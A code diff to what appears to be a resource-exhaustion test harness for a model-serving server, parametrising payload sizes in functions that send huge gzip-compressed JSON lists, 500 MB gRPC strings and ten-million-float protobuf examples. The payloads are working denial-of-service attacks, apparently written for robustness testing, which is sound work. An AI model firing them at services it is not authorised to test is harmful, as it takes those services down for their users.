@@ -99,7 +99,7 @@ def _(site: Site) -> None:
 
 @KIND.attack("gzip of lists, REST")
 def _(site: Site) -> int:
-    size = 90_000_000
+    size = site.many(90_000_000)
     largest = 0
     for item in (b"[],", b"0,", b'"",', b"{},", b'"a",', b"[[]],"):
         body = b'{"instances": [' + item * (size // len(item)) + item.rstrip(b",") + b"]}"
@@ -112,7 +112,7 @@ def _(site: Site) -> int:
 
 @KIND.attack("plain lists, REST")
 def _(site: Site) -> int:
-    size = 8_000_000
+    size = site.many(8_000_000)
     for item in (b"[],", b"0,", b'"",', b"{},", b"[[[[]]]],"):
         body = b'{"instances": [' + item * (size // len(item)) + item.rstrip(b",") + b"]}"
         for model in ("half_plus_two", "strings"):
@@ -122,7 +122,7 @@ def _(site: Site) -> int:
 
 @KIND.attack("compressed messages, gRPC")
 def _(site: Site) -> int:
-    data = b"a" * 500_000_000
+    data = b"a" * site.many(500_000_000)
     for model, signature in (("strings", "plain"), ("mlm", "tokenize")):
         proto = tensor_pb2.TensorProto(
             dtype=types_pb2.DT_STRING, tensor_shape={"dim": [{"size": 1}]}, string_val=[data]
@@ -143,7 +143,7 @@ def packed_floats(count: int) -> bytes:
 
 @KIND.attack("examples of ten million numbers")
 def _(site: Site) -> int:
-    example = packed_floats(10_000_000)
+    example = packed_floats(site.many(10_000_000))
     data = b"\x0a" + varint(len(example)) + example
     data = b"\x0a" + varint(len(data)) + data
     prediction = "/tensorflow.serving.PredictionService/"
